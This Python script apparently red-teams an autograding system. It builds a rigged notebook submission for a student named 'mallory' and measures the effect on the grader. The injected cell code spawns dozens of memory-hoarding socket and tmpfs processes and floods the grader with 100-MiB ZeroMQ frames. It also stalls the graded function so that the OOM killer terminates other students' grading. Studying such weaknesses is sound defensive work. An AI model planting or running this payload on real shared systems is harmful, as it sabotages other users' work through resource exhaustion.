"""a07: a06d/a06f (8-GiB host, 34 socket ratchets, raw-frame pile-up) WITHOUT writing any oom_score_adj: every
process of mallory's stays at 1000, as round 50 meant. Is a03 needed at all?
(a06d: a06c with the observer's call told apart by its pid and the flood started after the first test cell
that calls partition_layers.
(a06c: a06b with raw frames: the flood thread hands ipykernel's IOPub thread ready-made 7-part frames of
100 MiB (no JSON, no signature: the grader's ZeroMQ I/O thread queues them unread while the grading process waits
for the observer), so the pile-up is as fast as a unix socket.
(a06b: a06 with a 50-s slow check, a flood of 20 messages without pause, and a host-side sampler of the
largest root processes and the host cgroup's usage.
(a06: a host the admission itself deems big enough for one submission at a time (8 GiB: (8 - 1.5) // (6 + 0.5) = 1),
so no undersized host. mallory (1) writes 0 to every oom_score_adj of her sandbox (a03), (2) holds ~5 GiB in her
sandbox where no resident set shows it (tmpfs + socket queues, under her own 6-GiB cap), and (3) makes her own
nbgrader process (outside the sandbox, budgeted 0.5 GiB by admission, capped at 2 GiB of data) hold memory: her
partition_layers sleeps 25 s when the observer calls it, so the grading process waits for the report, and a thread
of her kernel publishes 100-MiB displays meanwhile, which ZeroMQ's I/O thread queues in the grader (rcvhwm 1000).
Early-started zoe is the first score-1000 process the OOM killer finds. argv: HOST_GIB SOCK_GIB"""
import sys, os, subprocess
from common import *
HOST_GIB = float(sys.argv[1]) if len(sys.argv) > 1 else 8
SOCK_GIB = float(sys.argv[2]) if len(sys.argv) > 2 else 3.5
PARENT = "/sys/fs/cgroup/memory" + [l.split(":")[2] for l in open("/proc/self/cgroup").read().split("\n") if ":memory:" in l][0]
HOST = PARENT + "/a51host7b"
os.makedirs(HOST, exist_ok=True)
open(HOST + "/memory.limit_in_bytes", "w").write(str(int(HOST_GIB * 2**30)))
open(HOST + "/cgroup.procs", "w").write(str(os.getpid()))
print("grader runs in", HOST, "limit", HOST_GIB, "GiB")

RATCHET = r'''
import os, socket, time, sys
end = time.time() + float(sys.argv[1]); kind = sys.argv[2]; quota = int(sys.argv[3])
socks = []; buf = b"y" * 65536; held = 0
if kind == "file":
    for d in ("/dev/shm", "/tmp", "."):
        try:
            with open(d + "/fill.bin", "wb") as f:
                while f.tell() < 500 * 2**20:
                    f.write(buf * 16)
        except OSError:
            pass
while time.time() < end:
    if kind == "sock" and held < quota and len(socks) < 1200:
        try:
            a, b = socket.socketpair(); a.setblocking(False); socks += [a, b]
            try:
                while True:
                    held += a.send(buf)
            except OSError:
                pass
            continue
        except OSError:
            pass
    time.sleep(0.05)
'''
SETUP = f'''
import os, sys, time, subprocess, threading
if "ipykernel" in sys.modules and not globals().get("_mal_started"):
    _mal_started = True
    _n = 34
    _rs = [subprocess.Popen([sys.executable, "-I", "-S", "-c", {RATCHET!r}, "240", "file", "0"])]
    _rs += [subprocess.Popen([sys.executable, "-I", "-S", "-c", {RATCHET!r}, "240", "sock", str(int({SOCK_GIB} * 2**30 / _n))]) for _ in range(_n)]
    def _flood():
        big = b"x" * (100 * 2**20)
        t = get_ipython().kernel.iopub_thread
        for i in range(20):
            t.send_multipart([b"display_data", b"<IDS|MSG>", b"0" * 64, b"{{}}", b"{{}}", b"{{}}", big], copy=False)
            time.sleep(0.1)
    def _after(result):
        raw = result.info.raw_cell or ""
        if "partition" + "_layers(" in raw and "assert" in raw and not globals().get("_mal_flooded"):
            globals()["_mal_flooded"] = True
            threading.Timer(1.0, _flood).start()
    get_ipython().events.register("post_run_cell", _after)
'''
src = nbformat.read(f"{CLONE}/source/ps1_memory/ps1_memory.ipynb", as_version=4)
part = next(c for c in src.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "partition_layers")
from tools.submissions import solution_text
sol = solution_text(part)
slow = "import os as _o\n_KPID = _o.getpid()\n" + sol.replace("def partition_layers(costs, k):", "def partition_layers(costs, k):\n    import os as _o2, time as _t\n    if _o2.getpid() != _KPID:\n        _t.sleep(50)", 1)
nb = honest()
for cell in nb.cells:
    gid = cell.metadata.get("nbgrader", {}).get("grade_id")
    if gid == "partition_layers":
        cell.source = slow
    if gid == "training_memory":
        cell.source = cell.source + "\n" + SETUP
c = make_course("a07")
hand_in(c, "aaron", honest()); hand_in(c, "mallory", nb); hand_in(c, "zoe", honest()); hand_in(c, "zz_zoe2", honest())
import threading, time
peak = {"host": 0, "procs": {}}
def sample():
    while not done.is_set():
        try:
            peak["host"] = max(peak["host"], int(open(HOST + "/memory.usage_in_bytes").read()))
            for pid in open(HOST + "/cgroup.procs").read().split():
                try:
                    st = open(f"/proc/{pid}/status").read()
                    uid = st.split("Uid:")[1].split()[0]
                    rss = int(st.split("VmRSS:")[1].split()[0]) >> 10
                    cmd = open(f"/proc/{pid}/cmdline").read().replace("\0", " ")[:70]
                    if uid == "0" and rss > peak["procs"].get(pid, (0, ""))[0]:
                        peak["procs"][pid] = (rss, cmd)
                except Exception:
                    pass
        except Exception:
            pass
        time.sleep(0.2)
done = threading.Event(); threading.Thread(target=sample, daemon=True).start()
grade(c, timeout=1500)
done.set()
print("host cgroup peak usage", peak["host"] >> 20, "MiB")
for pid, (rss, cmd) in sorted(peak["procs"].items(), key=lambda kv: -kv[1][0])[:8]:
    print("root pid", pid, "peak RSS MiB", rss, cmd)
scores(c); times(c)
print("'host' max usage", int(open(HOST + "/memory.max_usage_in_bytes").read()) >> 20, "MiB")
print("--- kernel log (OOM kills) ---")
for l in subprocess.run(["dmesg"], capture_output=True, text=True).stdout.split("\n")[-400:]:
    if "Killed process" in l:
        print(l[:260])
